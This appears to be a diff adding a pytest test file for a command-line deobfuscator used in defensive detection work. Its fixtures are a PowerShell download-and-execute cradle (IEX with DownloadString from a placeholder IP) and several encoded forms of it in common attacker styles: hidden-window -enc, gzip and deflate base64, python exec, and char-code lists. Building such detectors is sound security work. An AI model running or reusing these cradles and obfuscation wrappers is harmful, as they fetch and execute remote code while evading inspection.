@@ -0,0 +1,78 @@
+"""Deobfuscator layers: base64 text, compressed base64 and char-code lists, nested up to max_depth."""
+import base64
+import gzip
+import zlib
+
+import pytest
+
+from deobfuscate import Deobfuscator
+
+INNER = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"
+
+
+def b64(data):
+    return base64.b64encode(data).decode("ascii")
+
+
+def ps_enc(script):
+    return b64(script.encode("utf-16-le"))
+
+
+def raw_deflate(data):
+    compressor = zlib.compressobj(wbits=-15)
+    return compressor.compress(data) + compressor.flush()
+
+
+@pytest.mark.parametrize("command", [
+    f"powershell.exe -NoP -W Hidden -enc {ps_enc(INNER)}",
+    f"powershell -c \"$s=[Convert]::FromBase64String('{b64(INNER.encode())}')\"",
+    f"powershell -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
+    f"[IO.MemoryStream][Convert]::FromBase64String('{b64(gzip.compress(INNER.encode()))}'),0))).ReadToEnd()\"",
+    f"powershell -c \"[IO.Compression.DeflateStream]([Convert]::FromBase64String('{b64(raw_deflate(INNER.encode()))}'))\"",
+    f"python -c \"exec(zlib.decompress(base64.b64decode('{b64(zlib.compress(INNER.encode()))}')))\"",
+    "powershell -c \"IEX(" + "+".join(f"[char]{ord(c)}" for c in INNER) + ")\"",
+    "cmd /c powershell -c \"IEX(-join([char[]](" + ",".join(str(ord(c)) for c in INNER) + ")))\"",
+])
+def test_each_encoding_decodes(command):
+    deobfuscator = Deobfuscator()
+    assert deobfuscator.has_payload(command)
+    assert deobfuscator.decode(command) == [INNER]
+
+
+def test_nested_layers_stop_at_max_depth():
+    middle = f"powershell -enc {ps_enc(INNER)}"
+    command = f"cmd /c echo {b64(middle.encode())} | decode"
+    assert Deobfuscator().decode(command) == [middle, INNER]
+    assert Deobfuscator(max_depth=1).decode(command) == [middle]
+
+
+def test_plain_commands_have_no_payload():
+    deobfuscator = Deobfuscator()
+    plain = [r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
+             r"cmd /c dir C:\ProgramData\Microsoft\Windows\WER\ReportArchive",
+             "msiexec /i setup.msi /qn TARGETDIR=C:\\Apps VERSION=10.0.19045.3803",
+             "ping -n 4 10.20.30.40", "", None]
+    assert not any(deobfuscator.has_payload(text) for text in plain)
+    assert deobfuscator.decode(plain[0]) == [] and deobfuscator.stats["payloads"] == 0
+
+    encoded = f"powershell -enc {ps_enc(INNER)}"
+    assert deobfuscator.payload_positions([plain[0], encoded, plain[1], encoded]) == {1, 3}
+
+
+def test_results_are_memoized_per_payload():
+    deobfuscator = Deobfuscator()
+    noise = "certutil -decode QmFkUGF5bG9hZEdhcmJhZ2U9PT0aaaBBBcc x"  # mixed case, but not text or deflate
+    hit = f"powershell -enc {ps_enc(INNER)}"
+    for _ in range(50):  # the same blobs on every host
+        assert deobfuscator.decode(hit) == [INNER]
+        assert deobfuscator.decode(noise) == []
+    assert deobfuscator.stats == {"payloads": 2, "decoded": 1}
+
+
+def test_size_limits():
+    huge = ps_enc("Write-Output 'x'; " * 2000)
+    assert Deobfuscator(max_payload=1000).decode(f"powershell -enc {huge}") == []
+
+    bomb = b64(gzip.compress(b"A" * 1_000_000))
+    layers = Deobfuscator(max_output=4096).decode(f"powershell -c \"'{bomb}'\"")
+    assert layers and len(layers[0]) <= 4096